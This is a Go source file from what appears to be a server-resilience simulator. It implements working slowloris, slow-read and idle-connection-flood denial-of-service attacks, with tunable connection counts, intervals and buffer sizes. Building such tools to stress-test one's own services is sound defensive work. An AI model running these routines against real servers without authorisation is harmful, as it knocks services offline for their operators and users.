package attack

import (
	"context"
	"fmt"
	"net"
	"time"

	"github.com/rempart/rempart/internal/siege/sim"
)

// Bounds on the slow attacks' loops, beyond ctx and the budget.
const (
	maxSlowSteps  = 1_000_000 // header lines or reads per connection
	slowReadWait  = 30 * time.Second
	defaultBigObj = "/ondemand/track1.wav"
)

// slowloris opens a connection and sends a request header that never ends:
// one more header line every interval, holding a server slot per
// connection for the client's life.
//
// Params (besides conns, reconnects, backoff; see hold.go):
//   - path: the request's path (/live/master.m3u8), sent with a random query.
//   - interval: between header lines ("10s").
//   - user_agent: the User-Agent line (a desktop Chrome).
//   - insecure: skip TLS verification on https:// targets (false).
type slowloris struct{}

// Run holds the client's connections until ctx is done.
func (slowloris) Run(ctx context.Context, env *sim.Env, c sim.Client) {
	p := params(env, c)
	t, err := newTarget(env, p, "http/1.1")
	if err != nil {
		env.Rec.Request(c.Pop, sim.KindAttack, intended(env, c), 0, 0, 0, err)
		return
	}
	path := t.path(p.String("path", defaultHotPath))
	ua := p.String("user_agent", defaultFloodUA)
	every := max(p.Duration("interval", 10*time.Second), time.Millisecond)
	holdAll(ctx, env, c, t, readHoldOpts(p), func(ctx context.Context, conn net.Conn) outcome {
		return slowHeader(ctx, conn, t.host, path, ua, every)
	})
}

// slowHeader sends the start of a request, then a header line every
// interval, watching between lines for the server to answer or close.
func slowHeader(ctx context.Context, conn net.Conn, host, path, ua string, every time.Duration) outcome {
	start := time.Now()
	line := fmt.Appendf(nil, "GET %s?%s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept-Language: en-US,en;q=0.5\r\n",
		path, appendHex(nil, 8), host, ua)
	var head [256]byte
	for lines := 0; lines < maxSlowSteps; lines++ {
		if _, err := conn.Write(line); err != nil {
			return outcome{err: closed("slowloris", time.Since(start), fmt.Sprintf("%d header lines sent", lines), err)}
		}
		if err := conn.SetReadDeadline(time.Now().Add(every)); err != nil {
			return outcome{err: err}
		}
		n, err := conn.Read(head[:])
		if n > 0 { // the server gave up on us and said so
			return outcome{status: statusOf(head[:n]), bytes: int64(n),
				err: closed("slowloris", time.Since(start), fmt.Sprintf("answered after %d header lines", lines+1), err)}
		}
		if err != nil && !isTimeout(err) {
			return outcome{err: closed("slowloris", time.Since(start), fmt.Sprintf("%d header lines sent", lines+1), err)}
		}
		line = appendHex(append(appendLetters(append(line[:0], "X-"...), 6), ": "...), 12)
		line = append(line, "\r\n"...)
	}
	<-ctx.Done() // the header bound is reached: just hold
	return outcome{}
}

// slowRead asks for a large object and reads the answer a byte at a time
// through a tiny receive buffer, so the server's send buffer and its slot
// stay taken for the whole (very long) transfer.
//
// Params (besides conns, reconnects, backoff; see hold.go):
//   - path: the large object (/ondemand/track1.wav).
//   - interval: between reads ("1s").
//   - chunk: bytes per read (1).
//   - rcvbuf: the socket receive buffer in bytes (1024; the kernel may
//     round it up). It is set after the connection is made, since Env.Dial
//     makes it, so the window scale offered in the handshake is the
//     system's; the window still closes once the small buffer is full.
//   - user_agent, insecure: as for slowloris.
type slowRead struct{}

// Run holds the client's connections until ctx is done.
func (slowRead) Run(ctx context.Context, env *sim.Env, c sim.Client) {
	p := params(env, c)
	t, err := newTarget(env, p, "http/1.1")
	if err != nil {
		env.Rec.Request(c.Pop, sim.KindAttack, intended(env, c), 0, 0, 0, err)
		return
	}
	req := fmt.Appendf(nil, "GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: */*\r\n\r\n",
		t.path(p.String("path", defaultBigObj)), t.host, p.String("user_agent", defaultFloodUA))
	sr := slowReader{
		req:    req,
		every:  max(p.Duration("interval", time.Second), time.Millisecond),
		chunk:  min(max(p.Int("chunk", 1), 1), 64<<10),
		rcvbuf: max(p.Int("rcvbuf", 1024), 1),
	}
	holdAll(ctx, env, c, t, readHoldOpts(p), sr.session)
}

// slowReader is one population's slow-read settings.
type slowReader struct {
	req    []byte
	every  time.Duration
	chunk  int
	rcvbuf int
}

// session sends the request and reads chunk bytes every interval.
func (sr slowReader) session(ctx context.Context, conn net.Conn) outcome {
	start := time.Now()
	if tc, ok := conn.(interface{ SetReadBuffer(int) error }); ok {
		_ = tc.SetReadBuffer(sr.rcvbuf) // best effort: the attack still works, only faster
	}
	if _, err := conn.Write(sr.req); err != nil {
		return outcome{err: closed("slow-read", time.Since(start), "request not sent", err)}
	}
	var head []byte
	var got int64
	buf := make([]byte, sr.chunk)
	tick := time.NewTimer(sr.every)
	defer tick.Stop()
	for range maxSlowSteps {
		select {
		case <-ctx.Done():
			return outcome{status: statusOf(head), bytes: got}
		case <-tick.C:
			tick.Reset(sr.every)
		}
		if err := conn.SetReadDeadline(time.Now().Add(slowReadWait)); err != nil {
			return outcome{err: err}
		}
		n, err := conn.Read(buf)
		got += int64(n)
		if len(head) < 16 {
			head = append(head, buf[:min(n, 16-len(head))]...)
		}
		if err != nil {
			return outcome{status: statusOf(head), bytes: got,
				err: closed("slow-read", time.Since(start), fmt.Sprintf("%d bytes read", got), err)}
		}
	}
	<-ctx.Done()
	return outcome{status: statusOf(head), bytes: got}
}

// connFlood opens TCP connections and sends nothing, holding each of the
// server's accept slots (and, behind TLS, its handshake timers) for the
// client's life.
//
// Params: conns, reconnects, backoff (see hold.go). No TLS is spoken even
// on https:// targets: the connection stays idle from its first byte.
type connFlood struct{}

// Run holds the client's connections until ctx is done.
func (connFlood) Run(ctx context.Context, env *sim.Env, c sim.Client) {
	p := params(env, c)
	t, err := newTarget(env, p)
	if err != nil {
		env.Rec.Request(c.Pop, sim.KindAttack, intended(env, c), 0, 0, 0, err)
		return
	}
	o := readHoldOpts(p)
	o.plainTCP = true
	holdAll(ctx, env, c, t, o, idle)
}

// idle waits for the server to close the connection or ctx to be done.
func idle(ctx context.Context, conn net.Conn) outcome {
	start := time.Now()
	var head []byte
	var got int64
	var buf [512]byte
	for range maxSlowSteps {
		n, err := conn.Read(buf[:])
		got += int64(n)
		if len(head) < 16 {
			head = append(head, buf[:min(n, 16-len(head))]...)
		}
		if err != nil {
			return outcome{status: statusOf(head), bytes: got,
				err: closed("conn-flood", time.Since(start), "idle", err)}
		}
	}
	<-ctx.Done()
	return outcome{status: statusOf(head), bytes: got}
}
